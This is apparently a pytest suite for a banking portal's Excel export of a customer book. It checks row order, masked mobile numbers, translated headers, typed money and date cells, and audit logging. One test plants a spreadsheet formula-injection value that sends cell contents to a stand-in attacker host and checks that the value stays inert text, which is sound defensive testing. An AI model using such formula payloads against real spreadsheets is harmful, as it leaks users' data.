"""The book's Excel export: every matching row in the book's sort (not just a page), masked
mobile numbers, a translated header, money as numbers with 2 decimals, dates as dates, and
an audit event for every export, even one of no rows."""
from __future__ import annotations

from datetime import datetime, timedelta
from decimal import Decimal
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook
import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from portal.models import AuditEvent
from portal.workbench.export import COLUMNS
from tests.feeds import BDATE
from tests.functional.test_book import BookBank, load_book_bank

EN = {"Accept-Language": "en"}
CATALOGUE = Path(__file__).resolve().parents[2] / "portal/translations/zh/LC_MESSAGES/messages.po"


@pytest.fixture
def book_bank(engine, bank, users, tmp_path) -> BookBank:  # type: ignore[no-untyped-def]
    return load_book_bank(engine, users, tmp_path)


def sheet_rows(response) -> list[tuple]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = load_workbook(BytesIO(response.get_data()))
    return list(workbook.active.iter_rows(values_only=True))


def exports(engine) -> list[AuditEvent]:  # type: ignore[no-untyped-def]
    with Session(engine) as session:
        return list(session.scalars(select(AuditEvent).where(AuditEvent.action == "export")
                                    .order_by(AuditEvent.id)))


def test_the_export_holds_every_matching_row_in_order(  # type: ignore[no-untyped-def]
        client, login, api, engine, book_bank) -> None:
    login("bm_b01")
    response = client.get("/book/export.xlsx?sort=aum&dir=desc&per_page=2&page=2",
                          headers=EN)
    assert response.headers["Cache-Control"] == "no-store"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = sheet_rows(response)
    assert rows[0] == ("Customer id", "Name", "Mobile", "Branch code", "Branch",
                       "RM staff id", "Relationship manager", "Status", "AUM (CNY)",
                       "Liabilities (CNY)", "Balances as of", "Last contact",
                       "Next task due", "Open alerts", "Overdue for contact")
    assert len(rows[0]) == len(COLUMNS)
    body = rows[1:]
    assert [r[0] for r in body] == book_bank.id("C5", "C6", "C7", "C1", "C2", "C4")
    c1 = dict(zip(COLUMNS, body[3]))
    today = book_bank.today
    assert c1 == {
        "id": book_bank.ids["C1"], "name": "张三", "mobile": "138****5678",
        "branch_code": "S011", "branch_name": "凤起路支行", "rm": "RM0001", "rm_name": "rm1",
        "status": "Active", "aum": 167600, "liabilities": 300000,
        "as_of": datetime.combine(BDATE, datetime.min.time()),
        "last_contact": datetime.combine(today - timedelta(days=10), datetime.min.time()),
        "next_task": datetime.combine(today + timedelta(days=2), datetime.min.time()),
        "open_alerts": 2, "overdue": "No"}
    assert dict(zip(COLUMNS, body[0]))["overdue"] == "Yes"  # 赵六


def test_money_and_dates_are_typed_cells(  # type: ignore[no-untyped-def]
        client, login, book_bank) -> None:
    login("rm1")
    response = client.get("/book/export.xlsx?q=张")
    sheet = load_workbook(BytesIO(response.get_data())).active
    header = [c.value for c in sheet[1]]
    cells = dict(zip(COLUMNS, sheet[2]))
    assert len(header) == len(COLUMNS)
    assert cells["aum"].data_type == "n" and cells["aum"].number_format == "#,##0.00"
    assert Decimal(str(cells["aum"].value)) == Decimal("167600.00")
    assert cells["next_task"].is_date and cells["next_task"].number_format == "yyyy-mm-dd"
    assert cells["as_of"].is_date and cells["last_contact"].is_date


def test_every_export_is_audited_even_of_no_rows(  # type: ignore[no-untyped-def]
        client, login, engine, book_bank) -> None:
    login("rm1")
    rows = sheet_rows(client.get("/book/export.xlsx?overdue=1&sort=name&dir=desc"))
    assert [r[0] for r in rows[1:]] == book_bank.id("C5")
    rows = sheet_rows(client.get("/book/export.xlsx?q=nobody"))
    assert len(rows) == 1  # the header alone
    events = exports(engine)
    assert [(e.username, e.customer_id, e.branch_code, e.detail) for e in events] == [
        ("rm1", None, "S011", {"filters": {"overdue": "1"},
                               "sort": {"by": "name", "dir": "desc"}, "rows": 1}),
        ("rm1", None, "S011", {"filters": {"q": "nobody"},
                               "sort": {"by": "name", "dir": "asc"}, "rows": 0}),
    ]


def test_the_rm_export_is_their_book_only(  # type: ignore[no-untyped-def]
        client, login, book_bank) -> None:
    login("rm2")
    rows = sheet_rows(client.get("/book/export.xlsx"))
    assert sorted(r[0] for r in rows[1:]) == book_bank.id("C2", "C6")
    assert {r[2] for r in rows[1:]} == {"139****4321", "136****0006"}  # masked mobiles


def test_a_bad_filter_exports_nothing_and_audits_nothing(  # type: ignore[no-untyped-def]
        client, login, engine, book_bank) -> None:
    login("bm_b01")
    assert client.get("/book/export.xlsx?branch=S021").status_code == 400
    assert client.get("/book/export.xlsx?sort=mobile").status_code == 400
    assert exports(engine) == []


def test_the_header_follows_the_readers_language(  # type: ignore[no-untyped-def]
        client, login, book_bank) -> None:
    from babel.messages.pofile import read_po

    with CATALOGUE.open("rb") as po:
        catalogue = read_po(po, locale="zh")
    login("rm1")
    rows = sheet_rows(client.get("/book/export.xlsx", headers={"Accept-Language": "zh-CN"}))
    name = catalogue.get("Name")
    assert name is not None and name.string
    assert rows[0][1] == name.string  # the catalogue's word for "Name"


def test_text_from_the_feeds_is_never_a_formula(  # type: ignore[no-untyped-def]
        client, login, engine, book_bank) -> None:
    from sqlalchemy import update

    from integration.models import Customer

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    with Session(engine) as session, session.begin():
        session.execute(update(Customer).where(Customer.id == book_bank.ids["C1"])
                        .values(name=hostile))
    login("rm1")
    response = client.get("/book/export.xlsx?sort=name")
    sheet = load_workbook(BytesIO(response.get_data())).active
    names = [dict(zip(COLUMNS, row))["name"] for row in sheet.iter_rows(min_row=2)]
    [cell] = [cell for cell in names if cell.value == hostile]
    assert cell.data_type == "s"  # a string cell: Excel shows the text, never runs it
